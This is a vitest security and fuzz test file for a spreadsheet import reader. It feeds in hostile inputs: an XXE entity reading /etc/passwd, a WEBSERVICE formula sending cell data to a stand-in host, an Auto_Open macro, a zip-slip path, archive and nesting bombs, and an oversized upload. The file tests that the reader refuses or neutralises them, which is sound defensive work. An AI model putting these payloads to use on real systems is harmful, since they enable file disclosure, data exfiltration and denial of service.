import { readFileSync } from 'node:fs'
import { request } from 'node:http'
import { expect, test } from 'vitest'
import { readTable } from '../../src/spreadsheets/read-table.ts'
import { startApi } from '../harness.ts'
import { aCoordinator, anOrganisation, signInAs } from '../people.ts'
import { textRow, workbookFile, zipFile } from '../workbook-file.ts'
import { type Random, randomFrom } from './random.ts'

/** Another seed or a longer run: `ATTACK_SEED=7 ATTACK_RUNS=2000`. */
const seed = Number(process.env.ATTACK_SEED ?? 1)
const runs = Number(process.env.ATTACK_RUNS ?? 60)

const data = (name: string): Buffer => readFileSync(new URL(`../data/${name}`, import.meta.url))

const refusalOf = async (bytes: Uint8Array): Promise<string> => {
  const reading = await readTable(bytes)
  return 'refusal' in reading ? reading.refusal.code : 'was read'
}

/** Bytes changed, cut out, doubled, put in; now and then a piece of another kind of file. */
const spoilt = (bytes: Buffer, random: Random): Buffer => {
  const at = random.number(bytes.length)
  const end = Math.min(bytes.length, at + 1 + random.number(200))
  const piece = random.pick([
    Buffer.from([0]),
    Buffer.from([0xff, 0xfe]),
    Buffer.from('PK\x01\x02'),
    Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
    Buffer.from('"""""'),
    Buffer.from('\r\r\n,;\t|'),
    Buffer.alloc(4, 0xff),
  ])
  const kind = random.number(5)
  if (kind === 0) return bytes.subarray(0, at)
  if (kind === 1) return Buffer.concat([bytes.subarray(0, at), bytes.subarray(end)])
  if (kind === 2) return Buffer.concat([bytes.subarray(0, end), bytes.subarray(at)])
  if (kind === 3) return Buffer.concat([bytes.subarray(0, at), piece, bytes.subarray(at)])
  const changed = Buffer.from(bytes)
  changed[at] = random.number(256)
  return changed
}

test.each(['partners.xlsx', 'partners.csv', 'partners-messy.csv'])(
  '%s, spoilt in any way, is a table or a refusal that says what to do',
  async (name) => {
    const random = randomFrom(seed)
    for (let run = 0; run < runs; run += 1) {
      let bytes = data(name)
      for (let times = random.number(4); times >= 0; times -= 1) bytes = spoilt(bytes, random)

      const reading = await readTable(bytes)

      if ('refusal' in reading) expect(reading.refusal.says.length).toBeGreaterThan(20)
      else expect(reading.table.headers.length).toBeLessThanOrEqual(200)
    }
  },
)

const rows = textRow(1, ['Name', 'Email']) + textRow(2, ['Noor Lewis', 'noor@example.org'])

test('macros stay packed, and what a formula would do is not done: only what it last showed is read', async () => {
  const shown = '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://e.test/"&amp;A1)</f><v>Noor</v></c></row>'
  const reading = await readTable(
    workbookFile({ sheets: [{ name: 'a', rows: textRow(1, ['Name', 'Email']) + shown }] }),
  )
  const withMacros = zipFile([{ name: 'xl/vbaProject.bin', content: 'Sub Auto_Open()' }])

  expect(JSON.stringify(reading)).toContain('Noor')
  expect(JSON.stringify(reading)).not.toContain('WEBSERVICE')
  expect(await refusalOf(withMacros)).toBe('not-a-spreadsheet')
})

test.each([
  [
    'another workbook in place of a sheet',
    zipFile([
      { name: 'xl/workbook.xml', content: '<workbook/>' },
      {
        name: 'xl/worksheets/sheet1.xml',
        content: Buffer.from(workbookFile({ sheets: [{ name: 'a', rows }] })).toString('latin1'),
      },
    ]),
  ],
  [
    'paths that lead out of the archive',
    zipFile([
      { name: '../../etc/passwd', content: 'x' },
      { name: 'xl/workbook.xml', content: '<workbook/>' },
    ]),
  ],
  [
    'ten thousand parts',
    zipFile(Array.from({ length: 10_000 }, (_, at) => ({ name: `xl/worksheets/s${at}.xml`, content: '<a/>' }))),
  ],
  [
    'elements that are nested without end',
    workbookFile({ sheets: [{ name: 'a', rows: `${'<row>'.repeat(50_000)}` }] }),
  ],
  ['a text under the name of a workbook', Buffer.from('PK\x03\x04 this is no archive')],
  ['nothing but NUL', Buffer.alloc(100_000)],
  ['half a character at the end of UTF-16', Buffer.from([0xff, 0xfe, 0x4e])],
])('%s is refused', async (_what, bytes) => {
  expect(await refusalOf(bytes)).not.toBe('was read')
})

test('a stream of 100 MB is cut off at the limit and is not kept in memory', async () => {
  const api = await startApi()
  const { authorization } = await signInAs(api, await aCoordinator(api, await anOrganisation(api)))
  const { hostname, port } = new URL(api.url)
  const headers = { authorization, 'content-type': 'text/csv', 'content-length': String(100 * 1024 * 1024) }
  const target = { hostname, port, method: 'POST', path: '/api/v1/people/imports?dryRun=true', headers }

  const answer = await new Promise<{ status: number | undefined; type: string | undefined }>((resolve, reject) => {
    const sending = request(target, (reply) => {
      reply.resume()
      resolve({ status: reply.statusCode, type: reply.headers['content-type'] })
      sending.destroy()
    })
    sending.on('error', reject)
    sending.write(Buffer.alloc(64 * 1024, 'a'))
  })

  expect(answer).toEqual({ status: 413, type: expect.stringContaining('application/problem+json') })
})
